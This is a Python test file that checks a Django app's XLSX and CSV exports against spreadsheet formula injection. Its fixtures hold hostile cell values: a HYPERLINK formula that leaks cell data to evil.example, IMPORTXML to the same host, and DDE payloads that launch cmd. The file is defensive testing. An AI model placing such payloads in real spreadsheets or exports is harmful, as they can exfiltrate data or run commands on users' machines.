"""Spreadsheet formula injection (issue 14, finding 8): a text that starts with = + - @ (or a tab or
carriage return before one) is written as text in the XLSX, read back with openpyxl, and in the CSV."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from commitments.services import commitment_create
from core.models import Dossier
from exports.services import export_overview
from motions.models import MotionStatus
from tests.factories import MinistryFactory, make_motion

pytestmark = [pytest.mark.django_db]

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def ministry():
    ministry = MinistryFactory(abbreviation="JenV")
    dossier = Dossier.objects.create(number="29344", title='=IMPORTXML("https://evil.example","//a")')
    make_motion(ministry=ministry, status=MotionStatus.ADOPTED, dossier=dossier, title=HOSTILE[0], text="")
    for text in HOSTILE[1:]:
        commitment_create(ministry=ministry, text=text, status="openstaand")
    commitment_create(ministry=ministry, text="Gewone toezegging = geen formule", status="openstaand")
    return ministry


def test_xlsx_cells_are_text_never_formulas(ministry):
    data, count = export_overview(ministry=ministry, fmt="xlsx")
    assert count == 7
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # not one formula in the file
    ws = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in ws.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in HOSTILE[1:]:
        assert text.replace("\r", "\n") in texts  # as written, as text (XML reads a CR as a line end)
    assert any(v and v.startswith(HOSTILE[0]) for v in texts)  # the motion's title (and its empty text)
    assert '29 344 =IMPORTXML("https://evil.example","//a")' in texts  # (the number comes first: harmless)
    marked = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\n"))]
    assert len(marked) == 6 and all(c.data_type == "s" and c.quotePrefix for c in marked)


def test_csv_fields_that_a_spreadsheet_would_run_start_with_an_apostrophe(ministry):
    data, _count = export_overview(ministry=ministry, fmt="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    fields = [field for row in rows[1:] for field in row]
    for text in HOSTILE[1:]:
        assert f"'{text}" in fields, text
    assert any(f.startswith("'" + HOSTILE[0]) for f in fields)
    assert "Gewone toezegging = geen formule" in fields  # other texts unchanged
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
